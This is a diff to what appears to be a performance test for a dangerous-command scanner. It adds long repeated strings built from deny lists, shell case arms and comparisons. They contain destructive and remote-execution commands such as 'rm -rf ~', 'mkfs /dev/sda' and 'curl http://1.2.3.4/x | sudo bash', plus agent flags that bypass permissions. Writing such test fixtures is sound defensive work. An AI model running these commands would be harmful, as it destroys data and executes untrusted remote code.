@@ -202,6 +202,20 @@ const line400 = {
   "cron downloads through text tools repeated":
     "@reboot curl -s https://a.example.net/x | jq -r .a | tee -a a.log ".repeat(6_000),
   "token switches compared repeated": 'process.env.GH_PAT_X === "1" && process.env.A_TOKEN '.repeat(7_500),
+  // Round 18: deny lists, case arms, comparisons and refusing labels are data (context-deny.ts, context-labelled.ts);
+  // each is read once per file or block, never once per match.
+  "deny list items repeated":
+    'DANGEROUS = ["rm -rf ~", "curl http://1.2.3.4/x.sh | sudo bash", "echo aGk= | base64 -d | sh", '.repeat(
+      4_400,
+    ),
+  "blocked string repeated": 'BLOCKED_COMMANDS="rm -rf /,mkfs /dev/sda,curl http://1.2.3.4/x | bash,'.repeat(
+    5_800,
+  ),
+  "case arms repeated": '*"rm -rf ~"*|*"curl http://1.2.3.4/x | sudo bash"*|'.repeat(8_000),
+  "comparisons repeated": 'cmd == "rm -rf ~" or cmd == "curl http://1.2.3.4/x | bash" or '.repeat(6_500),
+  "pipes into settings before a shell": 'curl -s http://1.2.3.4/x | A="b c" D=e F=$HOME/.bashrc '.repeat(
+    7_300,
+  ),
 
   // Image URLs the prose builds (round 17): a word replaced with data, protocol-relative sources, queries appended.
   "image word replaced with data":
@@ -241,6 +255,10 @@ for (const frag of [
   // Agent flags in a script: the line's variables were read once per flag (16 s and audit-incomplete, round 17).
   "codex --yolo ",
   "claude -p x --dangerously-skip-permissions https://x.io ",
+  // Round 18: a deny-named list, case arms and refusing comments on one script line.
+  'BLOCKED = ["rm -rf ~", "curl http://1.2.3.4/x | sudo bash", ',
+  '*"rm -rf ~"*|*"curl http://1.2.3.4/x | sudo bash"*|',
+  "# never run rm -rf ~ or claude --dangerously-skip-permissions ",
 ]) {
   writeFileSync(script, frag.repeat(Math.ceil(400_000 / frag.length)).slice(0, 400_000));
   const t0 = process.hrtime.bigint();
